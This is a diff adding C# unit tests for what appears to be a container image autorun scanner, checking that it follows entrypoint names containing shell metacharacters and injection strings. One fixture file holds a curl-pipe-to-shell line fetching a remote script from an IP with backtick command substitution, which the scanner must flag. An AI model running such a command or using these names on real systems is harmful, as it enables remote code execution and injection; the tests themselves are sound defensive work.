@@ -200,6 +200,40 @@ public sealed class AutorunScannerHostileTests
         Assert.DoesNotContain('\n', finding.Target);
     }
 
+    // The kernel expands nothing: whatever stands in a name, it is a file that starts.
+    [Theory]
+    [InlineData("/files/<script>alert(1)<.script>@everyone|`x`.sh")]
+    [InlineData("/files/$HOME")]
+    [InlineData("/files/*")]
+    [InlineData("/files/?;&")]
+    [InlineData("/files/-x")]
+    [InlineData("/files/ ")]
+    [InlineData("/files/\\")]
+    public async Task ScanAsync_AnyCharacterInAName_IsFollowed(string name)
+    {
+        foreach (var words in (string[][])[[name], ["tini", "--", name], ["sh", name], ["/bin/sh", "-c", $"'{name}'"]])
+        {
+            var outcome = await ScanAsync(new ImageConfiguration { Entrypoint = words }, UsualSystem().File(name, "#!/bin/sh\ncurl -s http://198.51.100.7/`id`.sh | sh\n"));
+
+            Assert.Contains(name, Paths(outcome));
+            Assert.Contains("download-and-run.pipe-shell", Ids(outcome));
+        }
+    }
+
+    [Fact]
+    public async Task ScanAsync_ProgramNamedLikeAnOption_IsFollowed()
+        => Assert.Contains("/usr/bin/-x", Paths(await ScanAsync(new ImageConfiguration { Command = ["-x"] }, UsualSystem().File("/usr/bin/-x", "true"))));
+
+    [Theory]
+    [InlineData("/files/*")]
+    [InlineData("`x`")]
+    public async Task ScanAsync_AnyCharacterInAMissingName_IsMissing(string name)
+        => Assert.Contains("missing-target", Ids(await ScanAsync(new ImageConfiguration { Entrypoint = [name] }, UsualSystem())));
+
+    [Fact]
+    public async Task ScanAsync_NameLongerThanAnyPath_IsMissing()
+        => Assert.Contains("missing-target", Ids(await ScanAsync(new ImageConfiguration { Entrypoint = [new string('x', 5000)] }, UsualSystem())));
+
     [Fact]
     public async Task ScanAsync_MissingWithHostileName_IsCleaned()
     {
